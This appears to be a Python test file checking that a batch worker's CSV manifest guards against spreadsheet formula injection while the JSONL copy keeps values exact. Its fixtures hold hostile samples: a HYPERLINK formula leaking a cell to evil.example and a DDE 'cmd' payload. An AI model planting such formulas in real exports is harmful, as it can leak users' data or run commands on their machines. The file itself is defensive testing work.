"""manifest.csv never hands a spreadsheet a formula (API error texts and prompts are anyone's
words), while manifest.jsonl keeps every value exactly as it was."""

from __future__ import annotations

import asyncio
import csv
import io
import json

import fakeredis
import pytest

from rcbatch.worker import keys
from rcbatch.worker.bucket import MemoryBucket
from rcbatch.worker.manifest import CSV_COLUMNS, inert_cell, write_manifest
from rcbatch.worker.state import NewItem, Store

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _manifest(errors: list[str], file: str = "in.csv",
              prompt: str = "a cat") -> tuple[list[dict[str, str]], list[dict[str, object]]]:
    """The CSV rows (as dicts) and JSONL lines of a batch whose items failed with `errors`."""
    store = Store(fakeredis.FakeRedis())
    items = [NewItem(f"i{k}", file, k + 2, "m", {"prompt": prompt}) for k in range(len(errors))]
    store.register("b", {"name": "n"}, items)
    for k, message in enumerate(errors):
        store.transition("b", f"i{k}", expect=(keys.PENDING,), to=keys.FAILED,
                         values={"error": {"kind": "api_rejected", "message": message}})
    bucket = MemoryBucket()
    asyncio.run(write_manifest(store, bucket, "b"))
    rows = list(csv.reader(io.StringIO(bucket.get_bytes("b/manifest.csv").decode(),
                                       newline="")))
    lines = [json.loads(x) for x in bucket.get_bytes("b/manifest.jsonl").splitlines()]
    return [dict(zip(CSV_COLUMNS, r, strict=True)) for r in rows[1:]], lines


def test_an_api_error_that_is_a_formula_is_inert_in_the_csv_and_exact_in_the_jsonl() -> None:
    rows, lines = _manifest(FORMULAS)
    assert [r["error_message"] for r in rows] == ["'" + f for f in FORMULAS]
    assert [line["error"]["message"] for line in lines] == FORMULAS  # type: ignore[index]


@pytest.mark.parametrize("file", ["=cmd.csv", "-rows.csv", "@in.csv", "+in.csv"])
def test_every_text_cell_is_guarded_file_names_too(file: str) -> None:
    rows, lines = _manifest(["refused"], file=file)
    assert rows[0]["file"] == "'" + file
    assert lines[0]["line"] == f"{file}:2"


def test_a_formula_prompt_never_starts_a_cell() -> None:
    rows, lines = _manifest(["refused"], prompt="=HYPERLINK(\"https://evil.example\")")
    assert not rows[0]["input"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert json.loads(rows[0]["input"]) == {"prompt": "=HYPERLINK(\"https://evil.example\")"}
    assert lines[0]["input"] == {"prompt": "=HYPERLINK(\"https://evil.example\")"}


@pytest.mark.parametrize(("value", "expected"), [
    ("refused, sorry", "refused, sorry"), ("", ""), ("a=b", "a=b"), ("0.03", "0.03"),
    ("'quoted", "'quoted"), ("=1", "'=1"), ("\t", "'\t")])
def test_ordinary_text_is_left_alone(value: str, expected: str) -> None:
    assert inert_cell(value) == expected
